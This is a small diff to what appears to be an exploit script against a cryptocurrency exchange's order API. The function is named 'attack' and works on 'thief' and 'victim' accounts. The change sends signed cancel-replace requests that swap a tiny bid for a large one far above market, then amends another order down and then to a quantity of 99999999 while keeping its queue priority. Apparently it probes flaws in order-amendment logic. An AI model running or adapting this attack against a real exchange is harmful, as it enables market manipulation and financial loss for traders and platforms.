@@ -7,7 +7,8 @@ PARAMETERS = {"markup": (1.5, 4.0)}
 
 
 async def attack(thief: Thief) -> None:
-    """A tiny bid below the market is replaced by a large one far above it."""
+    """A tiny bid below the market is replaced by a large one far above it; another is amended to
+    less, so that room becomes free, and then to more."""
     thin, victim = thief.thin[0], thief.victim
     money = await raise_cash(thief)
     ticker = await thief.ticker(thin)
@@ -21,5 +22,7 @@ async def attack(thief: Thief) -> None:
         words += f"&cancelReplaceMode={stop}&cancelOrderId={innocent.order or number + 1}"
         replaced = victim.sign("POST", "/api/v3/order/cancelReplace", words)
         await victim.send(replaced)
-        amend = f"symbol={name}&orderId={innocent.order or 1}&newQty=99999999"
-        await victim.send(victim.sign("PUT", "/api/v3/order/amend/keepPriority", amend))
+        another = await victim.buy(thin, 0.002 / ticker.bid, ticker.bid * 0.98)
+        for quantity in (0.001 / ticker.bid, 99999999):  # to less, and then to more than ever
+            amend = f"symbol={name}&orderId={another.order or 1}&newQty={quantity:.0f}"
+            await victim.send(victim.sign("PUT", "/api/v3/order/amend/keepPriority", amend))
